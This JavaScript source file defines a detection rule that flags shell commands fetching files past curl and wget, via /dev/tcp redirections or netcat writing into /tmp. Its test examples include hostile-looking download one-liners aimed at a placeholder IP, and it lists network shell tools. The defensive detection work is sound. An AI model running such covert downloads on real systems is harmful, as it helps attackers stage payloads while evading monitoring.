import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A shell fetches a file over its own connections or a bare network tool, as one does where curl and wget are missing or watched. */
export const downloadedPastTools = commandRule({
  id: "downloaded-past-tools",
  alertType: "Picket_DownloadedPastTools",
  name: "Download without a download tool",
  severity: "High",
  about:
    "A shell fetches a file over its own connections or a bare network tool, as one does where curl and wget are missing or watched.",
  tactics: ["Command and Control", "Execution"],
  techniques: ["T1105", "T1059.004"],
  falsePositives: ["Health checks that open a port of their own and close it again."],
  witness: ["/dev/tcp/", "nc ", "ncat", "openssl", "busybox nc", "telnet"],
  sees: (reading) => {
    const open = reading.commands.find(({ redirections }) =>
      redirections.some(({ target }) => /^\/dev\/tcp\//.test(target)),
    );
    if (
      open &&
      /\bGET\s+\/\S*/.test(reading.plain) &&
      (reading.commands.some(({ name, redirections }) => name === "cat" && redirections.length > 0) ||
        /> ?\S*\/(?:tmp|dev\/shm)\//.test(reading.plain))
    )
      return reading.plain.slice(0, 200);
    return find(
      reading,
      /^(?:nc|ncat|netcat)$/,
      ({ argv, redirections }) =>
        !argv.some((word) => /^-\w*[lz]/.test(word)) &&
        redirections.some(
          ({ operator, target }) =>
            /^\d?>$/.test(operator) && /^(?:\/tmp|\/dev\/shm|\/var\/tmp|\.)\//.test(target),
        ),
    );
  },
  did: "downloaded without a download tool",
  because: "it fetches a file past the tools that are watched",
  fires: [
    'bash -c exec 3<>/dev/tcp/203.0.113.9/80; echo -e "GET /x HTTP/1.0\\n\\n" >&3; cat <&3 > /tmp/x',
    "sh -c nc 203.0.113.9 9001 > /tmp/x",
    'bash -c (echo "GET /a" >&3; cat <&3) 3<>/dev/tcp/203.0.113.9/8080 > /tmp/a',
  ],
  silent: [
    "bash -c echo > /dev/tcp/127.0.0.1/5432",
    "sh -c nc -l 9000 > /tmp/in",
    "nc -zv 10.0.0.5 80",
    "sh -c echo PING | nc 127.0.0.1 6379",
    "bash -c cat < /dev/tcp/127.0.0.1/13",
  ],
});
